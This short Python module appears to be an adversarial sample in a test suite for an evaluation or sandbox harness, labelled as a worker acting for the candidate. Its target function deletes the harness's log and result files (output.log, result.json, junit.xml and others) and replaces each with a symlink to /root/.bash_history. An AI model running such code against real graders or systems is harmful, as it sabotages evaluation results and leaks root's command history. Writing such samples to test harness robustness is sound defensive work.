"""Replaces every log/output file name the worker might read with symlinks to root-only files."""

CLASS = 'worker acting for the candidate'


def target(n):
    import os
    for name in ("output.log", "worker.log", "result.json", "report.json", "junit.xml"):
        for folder in (os.getcwd(), os.path.dirname(os.getcwd()), os.environ.get("TMPDIR", ".")):
            path = os.path.join(folder, name)
            try:
                if os.path.lexists(path):
                    os.remove(path)
                os.symlink("/root/.bash_history", path)
            except OSError:
                pass
    return n
